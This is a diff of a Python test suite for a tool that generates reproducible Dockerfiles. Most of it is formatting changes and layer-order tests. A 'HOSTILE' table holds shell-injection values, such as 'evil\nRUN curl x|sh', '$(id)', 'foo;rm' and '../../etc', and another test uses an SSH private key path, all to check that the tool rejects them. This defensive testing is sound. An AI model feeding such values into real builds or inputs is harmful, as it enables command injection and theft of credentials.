@@ -48,17 +48,33 @@ def check_golden(name: str, text: str) -> None:
 
 CASES = {
     "small-buildkit-uv.Dockerfile": (small, lambda e: e, BOOKWORM, RenderOptions()),
-    "small-classic-pip.Dockerfile": (small, lambda e: e, BOOKWORM,
-                                     RenderOptions(buildkit=False, installer="pip")),
+    "small-classic-pip.Dockerfile": (
+        small,
+        lambda e: e,
+        BOOKWORM,
+        RenderOptions(buildkit=False, installer="pip"),
+    ),
     "datascience-buildkit-uv.Dockerfile": (datascience, lambda e: e, BOOKWORM, RenderOptions()),
-    "mixed-sources-buildkit-pip.Dockerfile": (small, mixed_sources, BOOKWORM,
-                                              RenderOptions(installer="pip")),
+    "mixed-sources-buildkit-pip.Dockerfile": (
+        small,
+        mixed_sources,
+        BOOKWORM,
+        RenderOptions(installer="pip"),
+    ),
     "ubuntu-host-unpinned.Dockerfile": (small, ubuntu, BOOKWORM, RenderOptions()),
-    "gpu-cuda-base.Dockerfile": (small, gpu, "nvidia/cuda:12.1.1-cudnn8-runtime-ubuntu22.04",
-                                 RenderOptions()),
+    "gpu-cuda-base.Dockerfile": (
+        small,
+        gpu,
+        "nvidia/cuda:12.1.1-cudnn8-runtime-ubuntu22.04",
+        RenderOptions(),
+    ),
     "no-packages.Dockerfile": (small, no_packages, BOOKWORM, RenderOptions()),
-    "compiled-bytecode.Dockerfile": (datascience, lambda e: e, BOOKWORM,
-                                     RenderOptions(compile_bytecode=True, cache_id="team-ci")),
+    "compiled-bytecode.Dockerfile": (
+        datascience,
+        lambda e: e,
+        BOOKWORM,
+        RenderOptions(compile_bytecode=True, cache_id="team-ci"),
+    ),
 }
 
 
@@ -72,8 +88,9 @@ def test_golden(name: str) -> None:
 
 
 def test_dockerfile_base_at_the_top_is_the_template_rendered() -> None:
-    expected = render_base_dockerfile("3.11.7", "bookworm", "reprobox/rootfs:bookworm-minbase",
-                                      "pyenv build")
+    expected = render_base_dockerfile(
+        "3.11.7", "bookworm", "reprobox/rootfs:bookworm-minbase", "pyenv build"
+    )
     assert (ROOT / "Dockerfile.base").read_text() == expected
 
 
@@ -91,17 +108,41 @@ def test_layer_order_base_system_lock_code() -> None:
     exp, env = small()
     env = mixed_sources(env)
     text = render_dockerfile(with_env(exp, env), env, base_image=BOOKWORM)
-    positions = [text.index(marker) for marker in (
-        "FROM python:3.11.7-slim-bookworm",
-        "dpkg-query",
-        "/lock/all.txt",
-        "pyjokes @ file:///tmp/reprobox/wheels/pyjokes-0.6.0-3b3b7f6a8f6e.tar.gz",
-        'COPY ["src/", "/workspace/"]',
-        "--editable /workspace",
-        "prune.py",
-        "LABEL reprobox.experiment=",
-    )]
+    positions = [
+        text.index(marker)
+        for marker in (
+            "FROM python:3.11.7-slim-bookworm",
+            "dpkg-query",
+            "/lock/all.txt",
+            "pyjokes @ file:///tmp/reprobox/wheels/direct/pyjokes-0.6.0-3b3b7f6a8f6e.tar.gz",
+            "--mount=type=bind,source=meta,target=/workspace,rw",
+            "--editable /workspace",
+            "prune.py",
+            'COPY ["src/", "/workspace/"]',
+            "LABEL reprobox.experiment=",
+        )
+    ]
     assert positions == sorted(positions)
+
+
+def test_each_install_step_mounts_only_its_own_wheels() -> None:
+    """BuildKit keys a step on what it mounts: each step mounts its own folder of wheels/, so a
+    new pure-Python package leaves the compiled layer cached; the code is copied after the
+    last install step (a change to the code alone rebuilds no install)."""
+    exp, env = datascience()
+    text = render_dockerfile(exp, env, base_image=BOOKWORM)
+    steps = text.split("\nRUN ")[1:]
+    compiled = next(s for s in steps if "lock/compiled.txt" in s)
+    pure = next(s for s in steps if "lock/pure.txt" in s)
+    local = next(s for s in steps if "--editable /workspace" in s)
+    assert (
+        "source=wheels/lock-compiled," in compiled
+        and "--find-links /tmp/reprobox/wheels/lock-compiled " in compiled
+    )
+    assert "source=wheels/lock-pure," in pure and "lock-compiled" not in pure
+    assert "source=wheels/local," in local and "source=meta,target=/workspace,rw" in local
+    assert not any("source=wheels," in s for s in steps)
+    assert text.index('COPY ["src/", "/workspace/"]') > text.index("--editable /workspace")
 
 
 def test_two_lock_layers_compiled_first() -> None:
@@ -113,7 +154,8 @@ def test_two_lock_layers_compiled_first() -> None:
     assert "numpy" in compiled.names and "scipy" in compiled.names
     assert "tqdm" in pure.names and "requests" in pure.names
     assert set(compiled.names) | set(pure.names) == {
-        p.name for p in env.packages if p.source.kind == "index"}
+        p.name for p in env.packages if p.source.kind == "index"
+    }
 
 
 def test_system_packages_pinned_only_on_the_same_release() -> None:
@@ -145,25 +187,45 @@ def test_a_folder_or_file_archive_outside_the_repository_is_refused_naming_the_p
     with refuses(UsageError, names=["package outside 1.0", "/home/someone/outside"]) as exc:
         plan_image(with_env(exp, outside), outside, base_image=BOOKWORM)
     assert exc.value.exit_code == 2
-    key = replace(env, packages=env.packages + (Package("sshkey", "1.0", PackageSource(
-        "archive", url="file:///root/.ssh/id_rsa.tar.gz")),))
+    key = replace(
+        env,
+        packages=env.packages
+        + (
+            Package(
+                "sshkey", "1.0", PackageSource("archive", url="file:///root/.ssh/id_rsa.tar.gz")
+            ),
+        ),
+    )
     with refuses(UsageError, names=["package sshkey", "file:///root/.ssh/id_rsa"]) as exc:
         plan_image(with_env(exp, key), key, base_image=BOOKWORM)
     assert exc.value.exit_code == 2
-    inside = replace(env, packages=env.packages + (Package("vendored", "2.0", PackageSource(
-        "archive", url="file:///home/me/proj/vendor/vendored-2.0.tar.gz",
-        path="vendor/vendored-2.0.tar.gz", hash="sha256=" + "9" * 64)),))
+    inside = replace(
+        env,
+        packages=env.packages
+        + (
+            Package(
+                "vendored",
+                "2.0",
+                PackageSource(
+                    "archive",
+                    url="file:///home/me/proj/vendor/vendored-2.0.tar.gz",
+                    path="vendor/vendored-2.0.tar.gz",
+                    hash="sha256=" + "9" * 64,
+                ),
+            ),
+        ),
+    )
     plan = plan_image(with_env(exp, inside), inside, base_image=BOOKWORM)
     assert [(d.name, d.repo_path) for d in plan.direct_sources] == [
-        ("vendored", "vendor/vendored-2.0.tar.gz")]
-    assert plan.direct == ("vendored @ file:///tmp/reprobox/wheels/vendored-2.0.tar.gz",)
+        ("vendored", "vendor/vendored-2.0.tar.gz")
+    ]
+    assert plan.direct == ("vendored @ file:///tmp/reprobox/wheels/direct/vendored-2.0.tar.gz",)
 
 
 def test_no_python_install_step_sees_a_secret_or_an_index() -> None:
     exp, env = small()
     env = mixed_sources(env)
-    for opts in (RenderOptions(), RenderOptions(installer="pip"),
-                 RenderOptions(network_none=True)):
+    for opts in (RenderOptions(), RenderOptions(installer="pip"), RenderOptions(network_none=True)):
         text = render_dockerfile(with_env(exp, env), env, base_image=BOOKWORM, options=opts)
         steps = text.split("\nRUN ")[1:]
         installs = [s for s in steps if " install " in s and "apt-get" not in s]
@@ -179,20 +241,28 @@ def test_no_python_install_step_sees_a_secret_or_an_index() -> None:
 
 def test_a_package_built_from_source_on_the_host_is_flagged() -> None:
     exp, env = small()
-    built = replace(env, packages=env.packages + (
-        Package("fastcore-ext", "0.1.0", wheel_tags=("cp311-cp311-linux_x86_64",)),))
+    built = replace(
+        env,
+        packages=env.packages
+        + (Package("fastcore-ext", "0.1.0", wheel_tags=("cp311-cp311-linux_x86_64",)),),
+    )
     plan = plan_image(with_env(exp, built), built, base_image=BOOKWORM)
     assert any(w.startswith("fastcore-ext 0.1.0 was built from source") for w in plan.warnings)
-    assert not any("built from source" in w for w in plan_image(exp, env,
-                                                                base_image=BOOKWORM).warnings)
+    assert not any(
+        "built from source" in w for w in plan_image(exp, env, base_image=BOOKWORM).warnings
+    )
 
 
 def test_labels_carry_provenance_without_credentials() -> None:
     exp, env = small()
     exp = replace(exp, git=replace(exp.git, remote="https://github.com/team/project.git"))
     text = render_dockerfile(exp, env, base_image=BOOKWORM)
-    for label in ("reprobox.experiment", "reprobox.env-digest",
-                  "org.opencontainers.image.revision", "org.opencontainers.image.source"):
+    for label in (
+        "reprobox.experiment",
+        "reprobox.env-digest",
+        "org.opencontainers.image.revision",
+        "org.opencontainers.image.source",
+    ):
         assert f"{label}=" in text
     assert '"https://github.com/team/project.git"' in text
 
@@ -201,8 +271,12 @@ def test_install_python_needs_uv_on_a_cuda_base() -> None:
     exp, env = small()
     env = gpu(env)
     with refuses(UsageError, names=["needs uv", "nvidia/cuda:12.1.1-runtime-ubuntu22.04"]):
-        plan_image(with_env(exp, env), env, base_image="nvidia/cuda:12.1.1-runtime-ubuntu22.04",
-                   options=RenderOptions(installer="pip"))
+        plan_image(
+            with_env(exp, env),
+            env,
+            base_image="nvidia/cuda:12.1.1-runtime-ubuntu22.04",
+            options=RenderOptions(installer="pip"),
+        )
 
 
 def test_step_titles_name_each_build_step() -> None:
@@ -224,24 +298,42 @@ def _with_package(env, pkg):  # type: ignore[no-untyped-def]
 
 HOSTILE = {
     "package name with a newline": lambda env: _with_package(
-        env, Package("evil\nRUN curl x|sh", "1.0")),
+        env, Package("evil\nRUN curl x|sh", "1.0")
+    ),
     "version with a command substitution": lambda env: _with_package(
-        env, Package("evil", "1.0$(id)")),
+        env, Package("evil", "1.0$(id)")
+    ),
     "system package with a semicolon": lambda env: replace(
-        env, system_packages=env.system_packages + (SystemPackage("foo;rm", "1.0"),)),
+        env, system_packages=env.system_packages + (SystemPackage("foo;rm", "1.0"),)
+    ),
     "system version with a space": lambda env: replace(
-        env, system_packages=(SystemPackage("libfoo1", "1.0 bar"),)),
+        env, system_packages=(SystemPackage("libfoo1", "1.0 bar"),)
+    ),
     "directory escaping the repository": lambda env: _with_package(
-        env, Package("evil", "1.0", PackageSource("directory", path="../../etc",
-                                                  editable=True, in_repo=True))),
+        env,
+        Package(
+            "evil", "1.0", PackageSource("directory", path="../../etc", editable=True, in_repo=True)
+        ),
+    ),
     "vcs URL with a quote": lambda env: _with_package(
-        env, Package("evil", "1.0", PackageSource("vcs", vcs="git", commit="a" * 40,
-                                                  url="https://x.example/r'$(id)"))),
+        env,
+        Package(
+            "evil",
+            "1.0",
+            PackageSource("vcs", vcs="git", commit="a" * 40, url="https://x.example/r'$(id)"),
+        ),
+    ),
     "archive hash that is not hex": lambda env: _with_package(
-        env, Package("evil", "1.0", PackageSource("archive", url="https://x.example/e.whl",
-                                                  hash="sha256=`id`"))),
+        env,
+        Package(
+            "evil",
+            "1.0",
+            PackageSource("archive", url="https://x.example/e.whl", hash="sha256=`id`"),
+        ),
+    ),
     "interpreter version with shell": lambda env: replace(
-        env, interpreter=replace(env.interpreter, version="3.11.7;id")),
+        env, interpreter=replace(env.interpreter, version="3.11.7;id")
+    ),
     "codename with a slash": lambda env: replace(env, os=replace(env.os, codename="bookworm/x")),
 }
 
@@ -283,8 +375,7 @@ def test_unknown_installer_and_cache_id_are_usage_errors() -> None:
     with refuses(UsageError, names="installer 'conda'"):
         render_dockerfile(exp, env, base_image=BOOKWORM, options=RenderOptions(installer="conda"))
     with refuses(UsageError, names="cache id 'a b'"):
-        render_dockerfile(exp, env, base_image=BOOKWORM,
-                          options=RenderOptions(cache_id="a b"))
+        render_dockerfile(exp, env, base_image=BOOKWORM, options=RenderOptions(cache_id="a b"))
 
 
 def test_the_two_parts_split_network_steps_from_python_steps() -> None:
